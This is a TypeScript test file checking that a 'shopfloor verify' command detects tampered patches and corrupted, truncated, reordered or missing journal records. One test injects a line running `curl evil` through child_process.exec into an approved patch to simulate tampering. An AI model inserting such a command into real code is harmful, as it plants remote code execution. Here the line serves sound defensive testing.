import { strict as assert } from 'node:assert';
import * as fs from 'node:fs';
import { join } from 'node:path';
import { tempRepo } from '../git/temp-repo';
import { approved } from '../support/approved';
import { runCli } from './cli';

/**
 * Fault test: a corrupted, truncated or reordered journal fails `shopfloor verify` at the
 * right record. One real run makes the journal; each case damages a copy of it.
 */
describe('fault: shopfloor verify names the first bad record', function () {
  this.timeout(120_000);
  let text: string;
  let dir: string;
  let repo: string;
  let runId: string;

  before(() => {
    const t = tempRepo();
    const packet = {
      schemaVersion: 1, id: 'v', intent: 'index.js exports fixed', source: { kind: 'issue', text: 'x' },
      scope: { paths: [{ path: 'index.js' }], services: [] }, nonGoals: [], reproduction: [{ argv: ['node', 'repro.js'] }],
      allowedTools: [], validation: [{ argv: ['node', 'test.js'] }], noOpRules: [{ when: 'reproduction-passes-before-change', then: 'NO_OP' }],
      evidenceRequired: [], outputFormat: 'pr', risk: 'one-reviewer',
    };
    fs.writeFileSync(join(t.root, 'packet.json'), JSON.stringify(approved(packet)));
    const r = runCli(['run', '--repo', t.repo, '--packet', join(t.root, 'packet.json'), '--unattended', '--json', '--no-setup', '--environment', 'local', '--agent-command', `node ${t.fixScript}`]);
    assert.equal(r.code, 0, r.stderr);
    const out = JSON.parse(r.stdout);
    text = fs.readFileSync(join(t.repo, '.shopfloor', 'runs', out.runId, 'journal.jsonl'), 'utf8');
    dir = t.root;
    repo = t.repo;
    runId = out.runId;
    assert.ok(text.split('\n').length > 10);
  });

  const verify = (content: string) => {
    const f = join(dir, `j-${Math.random().toString(16).slice(2)}.jsonl`);
    fs.writeFileSync(f, content);
    return runCli(['verify', f, '--json']);
  };
  const lines = () => text.split('\n').slice(0, -1);

  it("a PR_READY run's approved patch edited after the run: verify names it", () => {
    assert.equal(runCli(['verify', runId, '--repo', repo]).code, 0);
    const patch = join(repo, '.shopfloor', 'runs', runId, 'artifacts', 'approved.patch');
    const text = fs.readFileSync(patch, 'utf8');
    fs.writeFileSync(patch, text.replace("'fixed'", "'fixed'; require('child_process').exec('curl evil')"));
    try {
      const v = runCli(['verify', runId, '--repo', repo]);
      assert.equal(v.code, 1, v.stdout);
      assert.match(v.stdout, /artifacts\/approved\.patch was changed after the journal recorded it/);
    } finally {
      fs.writeFileSync(patch, text);
    }
  });

  it('an intact journal verifies (exit 0)', () => {
    const r = verify(text);
    assert.equal(r.code, 0);
    assert.equal(JSON.parse(r.stdout).ok, true);
  });

  it('a corrupted record: exit 1 naming that record', () => {
    const ls = lines();
    ls[5] = ls[5]!.replace(/"at":"[^"]+"/, '"at":"2030-01-01T00:00:00.000Z"');
    const r = verify(`${ls.join('\n')}\n`);
    assert.equal(r.code, 1);
    const p = JSON.parse(r.stdout).problem;
    assert.deepEqual([p.line, p.expectedSeq, p.fault], [6, 5, 'hash-mismatch']);
  });

  it('a truncated journal (cut inside the last line): names the last line', () => {
    const cut = text.slice(0, text.length - 15);
    const r = verify(cut);
    assert.equal(r.code, 1);
    const p = JSON.parse(r.stdout).problem;
    assert.deepEqual([p.line, p.fault], [lines().length, 'truncated']);
  });

  it('reordered records: names the first out of place', () => {
    const ls = lines();
    [ls[3], ls[4]] = [ls[4]!, ls[3]!];
    const r = verify(`${ls.join('\n')}\n`);
    assert.equal(r.code, 1);
    const p = JSON.parse(r.stdout).problem;
    assert.deepEqual([p.line, p.fault], [4, 'out-of-sequence']);
  });

  it('a deleted record: names the gap', () => {
    const ls = lines();
    ls.splice(7, 1);
    const p = JSON.parse(verify(`${ls.join('\n')}\n`).stdout).problem;
    assert.deepEqual([p.line, p.fault], [8, 'out-of-sequence']);
  });

  it('the human form says which record and why', () => {
    const ls = lines();
    ls[2] = 'garbage';
    const r = runCli(['verify', (() => { const f = join(dir, 'h.jsonl'); fs.writeFileSync(f, `${ls.join('\n')}\n`); return f; })()]);
    assert.equal(r.code, 1);
    assert.match(r.stdout, /BROKEN .*record 2 \(line 3\): not JSON/);
  });
});
